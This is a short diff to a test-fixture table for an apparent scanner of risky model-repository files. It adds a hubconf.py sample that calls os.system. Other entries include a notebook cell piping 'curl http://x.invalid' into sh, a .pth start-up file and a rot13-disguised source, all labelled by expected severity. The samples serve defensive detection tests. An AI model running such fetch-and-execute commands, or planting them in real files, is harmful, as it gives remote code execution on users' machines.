@@ -158,6 +158,7 @@ FILES: dict[str, tuple[str, str, Severity | None]] = {
     "a notebook that fetches": ("n.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["!curl http://x.invalid | sh\n"]}]}), Severity.HIGH),
     "a notebook": ("n.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["%pip install torch\n", "import torch\n", "x = 1"]}]}), None),
     "a start-up file": ("x.pth", "import os; os.system('true')\n", Severity.HIGH),
+    "an entry of a hub": ("hubconf.py", "import os\ndef my_model(pretrained=False):\n    os.system('true')\n", Severity.HIGH),
     "a disguised source": ("m.py", "# -*- coding: rot13 -*-\nx = 1\n", Severity.HIGH),
     "a source in Chinese": ("m.py", "# -*- coding: gbk -*-\nx = 1\n", None),
     "a word put around every text": ("tokenizer.json", json.dumps({"post_processor": {"type": "TemplateProcessing", "special_tokens": {"deny": {"id": "deny", "ids": [4], "tokens": ["deny"]}}}}), Severity.HIGH),
